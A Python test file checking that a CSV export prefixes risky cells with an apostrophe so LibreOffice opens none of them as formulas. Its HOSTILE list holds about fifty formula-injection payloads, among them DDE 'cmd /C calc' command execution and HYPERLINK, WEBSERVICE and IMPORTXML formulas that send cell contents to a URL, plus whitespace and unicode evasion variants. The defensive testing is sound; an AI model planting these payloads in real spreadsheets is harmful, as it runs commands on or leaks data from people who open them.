"""No cell of a CSV is taken for a formula, by the program that people open it with; and each text can be had back."""

import csv
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from releases.tables.formulas import text_cell
from releases.tables.writing import write_tables
from tests.conftest import SOFFICE
from tests.releases.spools import answer_id, freeze, small

# Each tries to be a formula, to end its cell early, or to hide behind what a spreadsheet takes off.
HOSTILE = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?leak="&A1,"Click")', "=WEBSERVICE(\"http://example.org\")",
    "=IMPORTXML(CONCAT(\"http://example.org\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=1+1\n=1+1", "\n=1+1",
    "\r=1+1", "\r\n=1+1", "\t=1+1", " =1+1", "   +1+1", "\u00a0=1+1", "\u2003=1+1", "\u3000=1+1", "\u200b=1+1",
    "\ufeff=1+1", "\u2028=1+1", "\u0085=1+1", "\x0b=1+1", "\x0c=1+1", "\x1f=1+1", "\u202e=1+1", "＝1+1", "＋1+1",
    "－1+1", "＠SUM(1+1)", "'=1+1", "''=1+1", '"=1+1', '"=1+1"', '",=1+1', '","=1+1', '"\n"=1+1', '""\r\n=1+1,"',
    "text,=1+1", "text;=1+1", "text\t=1+1", 'text"\n=1+1', "=", "==1", "{=1+1}", "=A1:A9",
)  # fmt: skip
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:"
TABLE, TEXT = f"{{{OFFICE}table:1.0}}", f"{{{OFFICE}text:1.0}}"
# Comma, double quote, UTF-8, from the first line; quoted cells are guessed at like others, and formulas are computed.
AS_A_CARELESS_READER = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"


def opened(path: Path, folder: Path) -> tuple[list[str], list[list[str]]]:
    """What LibreOffice makes of a CSV: its formulas, and the text of each cell, row by row."""
    command = [
        str(SOFFICE), "--headless", f"-env:UserInstallation={(folder / 'profile').as_uri()}",
        f"--infilter={AS_A_CARELESS_READER}", "--convert-to", "fods", "--outdir", str(folder), str(path),
    ]  # fmt: skip
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    sheet = ET.parse(folder / f"{path.stem}.fods").getroot()
    formulas = [found for cell in sheet.iter(f"{TABLE}table-cell") if (found := cell.get(f"{TABLE}formula"))]
    rows = [
        ["\n".join("".join(line.itertext()) for line in cell.iter(f"{TEXT}p")) for cell in row]
        for row in sheet.iter(f"{TABLE}table-row")
    ]
    return formulas, rows


@pytest.fixture
def cells(tmp_path) -> Path:
    """The answers of a release, each of them hostile."""
    rows = small(answers=len(HOSTILE))
    for row, text in zip(rows["answers"], HOSTILE, strict=True):
        row["text"] = text
    write_tables(freeze(tmp_path / "spool", rows), tmp_path / "release")
    return tmp_path / "release/csv/answers.csv"


def test_there_are_fifty_of_them():
    assert len(HOSTILE) == len(set(HOSTILE)) == 50


@pytest.mark.office
def test_libreoffice_takes_no_cell_for_a_formula(cells, tmp_path):
    formulas, rows = opened(cells, tmp_path)
    assert formulas == []
    assert [row[0] for row in rows[1 : len(HOSTILE) + 1]] == [answer_id(number) for number in range(len(HOSTILE))]


@pytest.mark.office
def test_libreoffice_would_take_them_for_formulas_as_they_are(tmp_path):
    """The test above can fail: without the apostrophe these are formulas."""
    plain = tmp_path / "plain.csv"
    with plain.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([[text] for text in HOSTILE])
    formulas, _ = opened(plain, tmp_path)
    assert len(formulas) >= 5
    assert any("HYPERLINK" in formula for formula in formulas)


def test_each_text_can_be_had_back(cells):
    with cells.open(newline="", encoding="utf-8") as file:
        texts = [row["text"] for row in csv.DictReader(file, strict=True)]
    pairs = list(zip(HOSTILE, texts, strict=True))
    # One apostrophe at most was put in front, and only where the first thing to be seen calls for it.
    assert [there for text, there in pairs if there not in {text, f"'{text}"}] == []
    put = {text for text, there in pairs if there != text}
    assert {"=1+1", "+1+1", "-1+1", "＝1+1", "\ufeff=1+1", "\n=1+1", "'=1+1", "''=1+1"} <= put
    assert {"text,=1+1", "{=1+1}", '"=1+1', '",=1+1'}.isdisjoint(put)


def test_ordinary_texts_are_left_alone():
    for text in ("An answer.", "1 + 1 = 2", "习近平", "مرحبا", "«Non»", "(see below)", "", "{}", "[]", "日本"):
        assert text_cell(text) == f'"{text}"'
    assert text_cell('He said "no".') == '"He said ""no""."'
